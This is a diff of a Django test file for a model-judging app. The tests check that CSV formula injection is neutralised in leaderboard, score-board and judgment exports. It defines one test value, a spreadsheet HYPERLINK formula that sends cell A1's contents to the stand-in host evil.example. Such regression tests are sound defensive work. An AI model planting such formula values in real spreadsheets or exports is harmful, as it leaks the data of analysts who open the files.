@@ -1,5 +1,6 @@
-"""CSV formula injection (issue #14) in the judging downloads: a model name or annotator id
-that starts like a formula is neutralised in the leaderboard and score-board CSVs and in
+"""CSV formula injection in the judging downloads (a cell starting like a formula runs when an
+analyst opens the file in a spreadsheet): a model name or annotator id that starts like a
+formula is neutralised in the leaderboard and score-board CSVs and in
 ``export_judgments`` (generic and VisIT-Bench), and an export still re-imports to itself."""
 import csv
 import io
@@ -9,7 +10,9 @@ from django.core.management import call_command
 from django.urls import reverse
 
 from judging.models import Judgment
-from judging.services.judgment_io import COLUMNS, judgments_export, judgments_import
+from judging.services.judgments.exports import judgments_export
+from judging.services.judgments.formats import COLUMNS
+from judging.services.judgments.imports import judgments_import
 
 pytestmark = pytest.mark.django_db
 EVIL_MODEL = '=HYPERLINK("https://evil.example/?"&A1,"LLaVA")'
